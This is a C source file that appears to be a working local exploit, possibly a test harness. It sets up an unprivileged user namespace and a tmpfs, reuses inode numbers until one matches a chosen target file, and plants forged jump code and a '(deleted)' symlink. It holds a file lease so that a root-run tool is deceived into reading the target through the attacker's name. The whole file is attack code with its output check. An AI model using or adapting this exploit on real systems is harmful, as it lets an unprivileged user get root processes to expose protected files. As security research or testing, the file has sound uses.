/*
 * A program of nobody's that wants root to read a file to it: it maps a file of its own with the file's inode number,
 * in a file system of its own, and has its name lead to that file; the way that does not go by names is closed by a
 * lease; and there are jumps in it that look as if a killed tollgate had left them. `reads FILE`; what has become of
 * its bytes is its last word.
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

enum { NOBODY = 65534, HEAD = 0x10000, SITES = 16 * 0x40000, SITE = 32 };

static void put(const char *path, const char *text)
{
    int file = open(path, O_WRONLY);
    if (file < 0 || write(file, text, strlen(text)) < 0)
        exit(3);
    close(file);
}

/* A file system of its own; 3: this machine does not let it have one. */
static void become_nobody(void)
{
    if (setgroups(0, NULL) || setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY))
        exit(3);
    /* Else its own /proc is root's. */
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
        exit(3);
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "0 65534 1");
    put("/proc/self/gid_map", "0 65534 1");
    if (mount("none", "/mnt", "tmpfs", 0, "size=16m"))
        exit(3);
}

/* An inode number is used again there only when it has come round: so it takes the next ones until it has that one. */
static int twin(ino_t wanted)
{
    for (int i = 0; i < 10000000; i++) {
        struct stat own;
        int file = open("/mnt/x", O_CREAT | O_RDWR | O_EXCL, 0600);
        if (file < 0 || fstat(file, &own))
            exit(3);
        if (own.st_ino == wanted)
            return file;
        if (own.st_ino > wanted)
            exit(3);
        unlink("/mnt/x");
        close(file);
    }
    exit(3);
}

static char *forge(int file, off_t size)
{
    char *map = mmap((void *)0x50000000, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, file, 0);
    int memory = memfd_create("", 0);
    if (map == MAP_FAILED || memory < 0 || ftruncate(memory, HEAD + SITES))
        exit(3);
    uint64_t *head = mmap(NULL, HEAD + SITES, PROT_READ | PROT_WRITE, MAP_SHARED, memory, 0);
    head[0] = 0x7000000;
    memcpy(head + 4, "tollgate", 8);
    for (off_t at = 0, index = 0; at + SITE <= size && at + SITE <= 4096; at += SITE, index++) {
        uint64_t site = 0x50000000 + at;
        int32_t far = (int32_t)(0x40000100 - (site + 5));
        head[HEAD / 8 + 2 * index] = head[HEAD / 8 + 2 * index + 1] = site;
        map[at] = (char)0xe9;
        memcpy(map + at + 1, &far, 4);
        memset(map + at + 5, 0xcc, SITE - 5);
    }
    munmap(head, HEAD + SITES);
    mmap((void *)0x40000000, HEAD + SITES, PROT_READ | PROT_EXEC, MAP_SHARED | MAP_FIXED, memory, 0);
    close(memory);
    return map;
}

int main(int count, char **words)
{
    struct stat target;
    if (count < 2 || stat(words[1], &target))
        return 4;
    become_nobody();
    int file = twin(target.st_ino);
    if (ftruncate(file, 4096))
        return 3;
    char *map = forge(file, target.st_size);
    unlink("/mnt/x");
    signal(SIGIO, SIG_IGN);
    if (symlink(words[1], "/mnt/x (deleted)") || fcntl(file, F_SETLEASE, F_WRLCK))
        return 3;
    puts("ready");
    fflush(stdout);
    for (struct pollfd input = {0, POLLIN, 0}; poll(&input, 1, 5) == 0;)
        fcntl(file, F_SETLEASE, F_WRLCK);
    puts(memchr(map + 5, 0xcc, SITE - 5) == map + 5 ? "as it was" : "read");
    return 0;
}
